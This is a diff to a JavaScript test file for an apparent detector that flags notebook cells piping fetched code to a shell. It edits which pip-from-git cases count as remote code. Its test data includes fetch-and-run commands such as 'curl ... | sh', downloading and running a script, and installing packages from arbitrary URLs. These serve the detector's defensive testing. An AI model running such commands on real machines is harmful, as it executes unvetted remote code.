@@ -39,7 +39,7 @@ describe('what cells hand to a shell', () => {
     ['a program that is fetched', [`!curl -so x.py ${U}`, '%run -i x.py'], 'fetched-code'],
     ['what Python fetches', [`urlretrieve("${U}", "x.sh")`, '!bash x.sh'], 'fetched-code'],
     ['an expression', [`!{"curl -s ${U} | sh"}`], 'fetched-code'],
-    ['a project of anybody', ['%pip install git+https://github.com/a/b'], 'fetched-code'],
+    ['a package from anywhere', ['%pip install git+https://a.example/b'], 'fetched-code'],
   ])('is followed through %s', (_, cells, rule) => {
     expect(judged(...cells)).toBe(`remote-code/${rule}`);
   });
@@ -48,6 +48,7 @@ describe('what cells hand to a shell', () => {
     ['what a cell says', [`print("curl ${U} | sh")`]],
     ['a page', [`%%html\n<b>curl ${U} | sh</b>`]],
     ['a program that is written', [`%%writefile x.sh\ncurl ${U} | sh`]],
+    ['a package from a house of source code', ['%pip install git+https://github.com/a/b']],
     ['an installer of its maker', ['!curl -LsSf https://astral.sh/uv/install.sh | sh']],
     [
       'a well-known project',
